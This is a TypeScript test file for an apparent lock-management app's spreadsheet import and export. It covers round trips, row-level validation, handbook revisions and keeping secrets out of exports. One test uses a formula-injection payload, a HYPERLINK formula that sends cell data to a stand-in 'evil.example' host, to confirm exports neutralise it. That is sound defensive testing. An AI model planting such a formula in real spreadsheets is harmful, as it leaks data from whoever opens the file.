/**
 * Spreadsheet round trip on the demo fleet: export then import changes nothing (CSV and XLSX), an
 * edited cell is written (a changed step list as a new revision with reason "import"), a file with
 * bad rows reports each row and column and writes nothing, formula-like cells stay text, and secrets
 * never reach an export.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import { count } from 'drizzle-orm';
import type { Actor } from '../../src/domain/identity.js';
import { INVENTORY_COLUMNS, type Table } from '../../src/domain/sheets.js';
import { loadDemoFleet } from '../../src/services/demo-fleet.js';
import { readTable, writeCsv } from '../../src/sheets/files.js';
import { handbookRevisions, locks } from '../../src/store/schema.js';
import { testServices, type TestEnv } from '../helpers/db.js';

const SYSTEM: Actor = { kind: 'system', name: 'local-cli' };
const col = (name: (typeof INVENTORY_COLUMNS)[number]) => INVENTORY_COLUMNS.indexOf(name);

describe('spreadsheet import and export', () => {
  let env: TestEnv;
  const lockCount = async () => Number((await env.database.db.select({ n: count() }).from(locks))[0]!.n);
  const revisionCount = async () => Number((await env.database.db.select({ n: count() }).from(handbookRevisions))[0]!.n);

  before(async () => {
    env = await testServices();
    await loadDemoFleet(env.services.ctx);
  });
  after(() => env.close());

  for (const format of ['csv', 'xlsx'] as const) {
    it(`${format}: export then import changes nothing, and a second export is identical`, async () => {
      const { sheets } = env.services;
      for (const kind of ['inventory', 'handbook'] as const) {
        const file = await sheets.exportFile(SYSTEM, kind, format);
        const [locksBefore, revsBefore] = [await lockCount(), await revisionCount()];
        const report = await sheets.importFile(SYSTEM, kind, file, { format });
        assert.equal(report.created, 0, `${kind}: ${JSON.stringify(report)}`);
        assert.equal(report.updated, 0, `${kind}: ${JSON.stringify(report)}`);
        assert.equal(report.revisions, 0);
        assert.equal(report.unchanged, report.rows);
        assert.ok(report.rows >= 9, `${kind} has rows`);
        assert.equal(await lockCount(), locksBefore);
        assert.equal(await revisionCount(), revsBefore);
        const again: Table = kind === 'inventory' ? await sheets.exportInventory(SYSTEM) : await sheets.exportHandbook(SYSTEM);
        assert.deepEqual(await readTable(file, format), again, `${kind} read back from ${format} equals the data`);
      }
    });
  }

  it('the inventory has the seed columns, paths and numbered steps', async () => {
    const t = await env.services.sheets.exportInventory(SYSTEM);
    assert.deepEqual(t.headers.slice(1, 7), ['location', 'name', 'manufacturer', 'model number', 'procedure steps', 'last verified']);
    const row = t.rows.find((r) => r[col('model number')] === 'DB-100')!;
    assert.match(row[col('location')]!, /^Demo Property Group\/[^/]+\//);
    assert.match(row[col('procedure steps')]!, /^1\. \[[a-z]+[^\]]*\] .+\n2\. /);
  });

  it('an edited row is written: fields as a lock update, a new step list as a handbook revision with reason "import"', async () => {
    const { sheets, handbook } = env.services;
    const t = await sheets.exportInventory(SYSTEM);
    const i = t.rows.findIndex((r) => r[col('model number')] === 'KP-50');
    const row = t.rows[i]!;
    row[col('firmware')] = '9.9.9';
    row[col('procedure steps')] = '1. [hold 15s] Hold the program button\n2. [sequence: 0 0 0 #] Enter the reset sequence\n3. [verify] The keypad beeps twice';
    // Every lock of the model shows the model's entry: rows that disagree are refused...
    const others = t.rows.filter((r, k) => k !== i && r[col('model number')] === 'KP-50');
    assert.ok(others.length > 0);
    const err = (await sheets.importInventory(SYSTEM, t).catch((x: unknown) => x)) as { fields: { row: number; column: string; message: string }[] };
    assert.ok(err.fields.length >= 1 && err.fields.every((f) => f.column === 'procedure steps' && /other steps for the same handbook entry/.test(f.message)), JSON.stringify(err));
    // ...and rows that agree make one revision.
    for (const r of others) r[col('procedure steps')] = row[col('procedure steps')]!;
    const report = await sheets.importInventory(SYSTEM, t);
    assert.equal(report.updated, 1, JSON.stringify(report));
    assert.equal(report.revisions, 1);
    const lock = await env.services.locks.get(SYSTEM, row[col('id')]!);
    assert.equal(lock.firmware, '9.9.9');
    const entry = (await handbook.forLock(SYSTEM, lock.id)).entry!;
    assert.equal(entry.lastRevision.reason, 'import');
    assert.equal(entry.lastRevision.authorLabel, 'local-cli');
    assert.deepEqual(entry.content.steps[0], { kind: 'hold', text: 'Hold the program button', seconds: 15 });
    assert.deepEqual(entry.content.steps[1], { kind: 'sequence', text: 'Enter the reset sequence', sequence: '0 0 0 #' });
    // Importing the same sheet again changes nothing.
    const again = await sheets.importInventory(SYSTEM, t);
    assert.equal(again.updated + again.created + again.revisions, 0, JSON.stringify(again));
  });

  it('a new lock is added by location + name; re-importing it matches it instead of adding another', async () => {
    const { sheets } = env.services;
    const t = await sheets.exportInventory(SYSTEM);
    const base = t.rows[0]!;
    const fresh = INVENTORY_COLUMNS.map((c) => (c === 'id' || c === 'external id' ? '' : c === 'name' ? 'Back gate' : c === 'driver' ? 'none' : base[col(c)]!));
    const table: Table = { headers: t.headers, rows: [fresh] };
    const before = await lockCount();
    assert.equal((await sheets.importInventory(SYSTEM, table)).created, 1);
    assert.equal(await lockCount(), before + 1);
    const again = await sheets.importInventory(SYSTEM, table);
    assert.equal(again.created, 0);
    assert.equal(again.unchanged, 1);
  });

  it('a file with several bad rows reports each row and column and writes nothing', async () => {
    const { sheets } = env.services;
    const t = await sheets.exportInventory(SYSTEM);
    const rows = t.rows.slice(0, 7).map((r) => [...r]);
    rows[0]![col('location')] = 'Demo Property Group/Harbour View Apartments/Building Z';
    rows[1]![col('model number')] = 'NOPE-1';
    rows[2]![col('installed on')] = '2025-02-30';
    rows[3]![col('service state')] = 'exploded';
    rows[4]![col('procedure steps')] = '1. [hold] Hold it\n3. [press] Press';
    rows[5]![col('battery %')] = '140';
    rows[6]![col('firmware')] = '1.2.3-changed'; // a good row: still not written
    const csv = writeCsv({ headers: t.headers, rows });
    const [locksBefore, revsBefore] = [await lockCount(), await revisionCount()];
    const err = await sheets.importFile(SYSTEM, 'inventory', csv, { format: 'csv' }).then(
      () => assert.fail('a bad file must be refused'),
      (e: { code: string; message: string; fields: { row: number; column: string; message: string }[] }) => e,
    );
    assert.equal(err.code, 'validation.failed');
    assert.match(err.message, /nothing was imported/);
    const at = (row: number, column: string) => err.fields.filter((f) => f.row === row && f.column === column).map((f) => f.message);
    assert.match(at(2, 'location').join(), /"Demo Property Group\/Harbour View Apartments" exists but has no "Building Z"/);
    assert.match(at(3, 'model number').join(), /no model "Demo Hardware Co NOPE-1"|no model ".* NOPE-1"/);
    assert.match(at(4, 'installed on').join(), /not a real date/);
    assert.match(at(5, 'service state').join(), /"exploded" is not one of/);
    const steps = at(6, 'procedure steps').join('; ');
    assert.match(steps, /say how many seconds to hold/);
    assert.match(steps, /numbered 1, 2, 3 in order/);
    assert.match(at(7, 'battery %').join(), /0 to 100/);
    assert.equal(at(8, 'firmware').length, 0);
    assert.deepEqual([...new Set(err.fields.map((f) => f.row))].sort(), [2, 3, 4, 5, 6, 7]);
    assert.equal(await lockCount(), locksBefore);
    assert.equal(await revisionCount(), revsBefore);
    const lock = await env.services.locks.get(SYSTEM, rows[6]![col('id')]!);
    assert.notEqual(lock.firmware, '1.2.3-changed');
  });

  it('unknown and missing columns are reported on row 1', async () => {
    const err = await env.services.sheets.importInventory(SYSTEM, { headers: ['location', 'nmae', 'manufacturer'], rows: [] }).catch((e: { fields: { row: number; column: string }[] }) => e);
    assert.deepEqual(
      (err as { fields: { row: number; column: string }[] }).fields.map((f) => `${f.row}:${f.column}`),
      ['1:nmae', '1:name', '1:model number'],
    );
  });

  it('cells starting with = + - @ are written as text in CSV and XLSX and read back as the same text', async () => {
    const { sheets, locks: lockService } = env.services;
    const first = (await sheets.exportInventory(SYSTEM)).rows[0]!;
    const id = first[col('id')]!;
    const nasty = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await lockService.update(SYSTEM, id, { notes: nasty, serial: '+1-555', firmware: '@SUM(1)' });
    const csv = (await sheets.exportFile(SYSTEM, 'inventory', 'csv')).toString('utf8');
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), 'the formula is prefixed with an apostrophe');
    assert.ok(csv.includes("'+1-555") && csv.includes("'@SUM(1)"));
    assert.doesNotMatch(csv, /(^|,)=HYPERLINK/m);
    const xlsx = await sheets.exportFile(SYSTEM, 'inventory', 'xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    let found = false;
    ws.eachRow((row) => row.eachCell((cell) => {
      assert.notEqual(cell.type, ExcelJS.ValueType.Formula, 'no formula cell in an export');
      if (cell.value === nasty) found = true;
    }));
    assert.ok(found, 'the XLSX holds the text as a string cell');
    for (const format of ['csv', 'xlsx'] as const) {
      const r = await sheets.importFile(SYSTEM, 'inventory', await sheets.exportFile(SYSTEM, 'inventory', format), { format });
      assert.equal(r.updated, 0, `${format} round trip keeps the text`);
    }
    // A formula cell in an uploaded workbook is imported as its text, never evaluated.
    const upload = new ExcelJS.Workbook();
    const sheet = upload.addWorksheet('x');
    const t = await sheets.exportInventory(SYSTEM);
    sheet.addRow(t.headers);
    const row = sheet.addRow(t.rows.find((r) => r[col('id')] === id)!);
    row.getCell(col('notes') + 1).value = { formula: '1+2', result: 3 };
    await sheets.importFile(SYSTEM, 'inventory', Buffer.from(await upload.xlsx.writeBuffer()), { format: 'xlsx' });
    assert.equal((await lockService.get(SYSTEM, id)).notes, '=1+2');
  });

  it('secrets never appear in a handbook or inventory export', async () => {
    const { sheets, handbook } = env.services;
    const entry = (await handbook.list(SYSTEM)).find((e) => e.modelNumber === 'KP-80C')!;
    await handbook.addSecret(SYSTEM, entry.id, { kind: 'master_code', label: 'Records room', value: '5517392' });
    for (const kind of ['inventory', 'handbook'] as const) {
      for (const format of ['csv', 'xlsx'] as const) {
        const file = await sheets.exportFile(SYSTEM, kind, format);
        const text = JSON.stringify(await readTable(file, format));
        assert.doesNotMatch(text, /5517392/);
        assert.doesNotMatch(file.toString('latin1'), /5517392/);
      }
    }
  });

  it('handbook sheet: a changed step list is a new revision with reason "import"; a stale revision cell is refused', async () => {
    const { sheets, handbook } = env.services;
    const t = await sheets.exportHandbook(SYSTEM);
    const h = (c: string) => t.headers.indexOf(c);
    const i = t.rows.findIndex((r) => r[h('model number')] === 'CB-1');
    const id = t.rows[i]![h('id')]!;
    const revBefore = (await handbook.get(SYSTEM, id)).revision;
    t.rows[i]![h('procedure steps')] = '1. [press] Open the app settings\n2. [wait 60s] Wait for the lock to reset\n3. [verify] The lock shows setup mode';
    t.rows[i]![h('warnings')] = 'notify_occupants: tell the guest first';
    const r = await sheets.importHandbook(SYSTEM, t);
    assert.equal(r.updated, 1, JSON.stringify(r));
    const e = await handbook.get(SYSTEM, id);
    assert.equal(e.revision, revBefore + 1);
    assert.equal(e.lastRevision.reason, 'import');
    assert.deepEqual(e.content.steps[1], { kind: 'wait_indicator', text: 'Wait for the lock to reset', seconds: 60 });
    assert.deepEqual(e.content.warnings, [{ kind: 'notify_occupants', text: 'tell the guest first' }]);
    // The same sheet again: its revision cell is now old, and its content equal: unchanged, not a conflict.
    assert.equal((await sheets.importHandbook(SYSTEM, t)).updated, 0);
    // A different change from the old sheet is a conflict.
    t.rows[i]![h('title')] = 'Someone else edited';
    const err = (await sheets.importHandbook(SYSTEM, t).catch((x: unknown) => x)) as { fields: { row: number; column: string; message: string }[] };
    assert.deepEqual(err.fields.map((f) => [f.row, f.column]), [[i + 2, 'revision']]);
  });
  it('handbook sheet: summary, resources and contacts round trip through CSV and XLSX, "|" and "\\" inside values included', async () => {
    const { sheets, handbook } = env.services;
    const entry = (await handbook.list(SYSTEM)).find((e) => e.modelNumber === 'DB-100')!;
    const before = await handbook.get(SYSTEM, entry.id);
    const content = {
      ...before.content,
      summary: 'Interior reset.\nTwo people recommended.',
      resources: [
        { tier: 'manufacturer' as const, label: 'Install | reset guide', url: 'https://example.com/db100?a=1|2' },
        { tier: 'community' as const, label: 'Locksmith forum thread', url: 'https://forum.example.org/t/123' },
        { tier: 'support' as const, label: 'Helpline \\ EMEA', phone: '+44 20 7946 0000', hours: 'Mon-Fri 08:00-18:00 CET' },
      ],
      contacts: [
        { name: 'Dana Reyes', role: 'site manager', phone: '+1 555 0100', email: 'dana@example.com' },
        { name: 'Night desk' },
      ],
    };
    await handbook.save(SYSTEM, entry.id, { content, reason: 'resources for the round trip', expectedRevision: before.revision });
    const t = await sheets.exportHandbook(SYSTEM);
    const h = (c: string) => t.headers.indexOf(c);
    const row = t.rows.find((r) => r[h('id')] === entry.id)!;
    assert.equal(row[h('resources')], 'manufacturer: Install \\| reset guide | url: https://example.com/db100?a=1\\|2\ncommunity: Locksmith forum thread | url: https://forum.example.org/t/123\nsupport: Helpline \\\\ EMEA | phone: +44 20 7946 0000 | hours: Mon-Fri 08:00-18:00 CET');
    assert.equal(row[h('contacts')], 'Dana Reyes | role: site manager | phone: +1 555 0100 | email: dana@example.com\nNight desk');
    const revs = await revisionCount();
    for (const format of ['csv', 'xlsx'] as const) {
      const r = await sheets.importFile(SYSTEM, 'handbook', await sheets.exportFile(SYSTEM, 'handbook', format), { format });
      assert.equal(r.updated, 0, `${format}: ${JSON.stringify(r)}`);
    }
    assert.equal(await revisionCount(), revs);
    // Edited by hand: parts in another order, one left out; read back as the same values.
    row[h('resources')] = 'support: Helpline | hours: 24/7 | phone: 0800 000 000';
    row[h('contacts')] = 'Sam | email: sam@example.com';
    row[h('revision')] = '';
    const r = await sheets.importHandbook(SYSTEM, { headers: t.headers, rows: [row] });
    assert.equal(r.updated, 1);
    const after = await handbook.get(SYSTEM, entry.id);
    assert.deepEqual(after.content.resources, [{ tier: 'support', label: 'Helpline', phone: '0800 000 000', hours: '24/7' }]);
    assert.deepEqual(after.content.contacts, [{ name: 'Sam', email: 'sam@example.com' }]);
    assert.equal(after.content.summary, content.summary);
  });

  it('handbook sheet: bad resources and contacts are reported by row and column, and nothing is written', async () => {
    const { sheets } = env.services;
    const t = await sheets.exportHandbook(SYSTEM);
    const h = (c: string) => t.headers.indexOf(c);
    const rows = t.rows.slice(0, 4).map((r) => [...r]);
    rows[0]![h('resources')] = 'vendor: Somewhere | url: https://x.example';
    rows[1]![h('resources')] = 'support: Helpline | fax: 555';
    rows[2]![h('resources')] = 'support: Helpline with no number';
    rows[3]![h('contacts')] = 'Pat | email: not-an-email';
    const revs = await revisionCount();
    const err = (await sheets.importHandbook(SYSTEM, { headers: t.headers, rows }).catch((x: unknown) => x)) as { code: string; fields: { row: number; column: string; message: string }[] };
    assert.deepEqual(
      err.fields.map((f) => [f.row, f.column]),
      [
        [2, 'resources'],
        [3, 'resources'],
        [4, 'resources'],
        [5, 'contacts'],
      ],
      JSON.stringify(err.fields),
    );
    assert.match(err.fields[0]!.message, /tier \(manufacturer, community, support\)/);
    assert.match(err.fields[1]!.message, /"fax: 555" should start with one of url:, phone:, hours:/);
    assert.match(err.fields[2]!.message, /^resource 1: a support resource needs a phone number or an address/);
    assert.match(err.fields[3]!.message, /^contact 1: enter an email address/);
    assert.equal(await revisionCount(), revs);
  });
});
